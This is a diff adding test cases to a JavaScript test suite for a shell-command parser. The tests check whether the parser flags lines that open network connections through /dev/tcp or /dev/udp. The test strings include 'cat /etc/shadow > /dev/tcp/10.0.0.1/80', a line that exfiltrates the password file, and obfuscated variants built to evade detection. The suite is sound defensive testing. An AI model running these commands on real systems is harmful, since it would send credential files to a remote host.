@@ -62,6 +62,25 @@ describe('what a line runs', () => {
   });
 
   it.each([
+    ['cat < /dev/tcp/10.0.0.1/80', true],
+    ['cat < /dev/udp/10.0.0.1/80', true],
+    ['cat /etc/shadow > /dev/tcp/10.0.0.1/80', true],
+    ['cat 3<> "/dev/t"cp/h/1', true],
+    ['exec 3<>/dev/tcp/h/1', true],
+    ['x=/dev/tcp/h/1; cat < $x', true],
+    ['x=tcp/h/1; cat < "/dev/$x"', true],
+    ['cat > "$x"', true],
+    ['cat < "/dev/tcp/$h/80"', true],
+    ['cat < "/var/log/$x"', false],
+    ['cat < ~/x', false],
+    ['cat < /dev/null 2>&1 >&2 <&0', false],
+    ['cat <<E\n/dev/tcp/h/1\nE', false],
+    ['ls /dev/tcp/h/1', false],
+  ])('%j connects to another machine by itself, or may: %j', (line, connects) => {
+    expect(commandFacts(line).unknown.includes('remote')).toBe(connects);
+  });
+
+  it.each([
     ['ls > a >> b 2>| c <> d', ['a', 'b', 'c', 'd'], false],
     ['ls &> a', ['a'], false],
     ['ls >& a', ['a'], false],
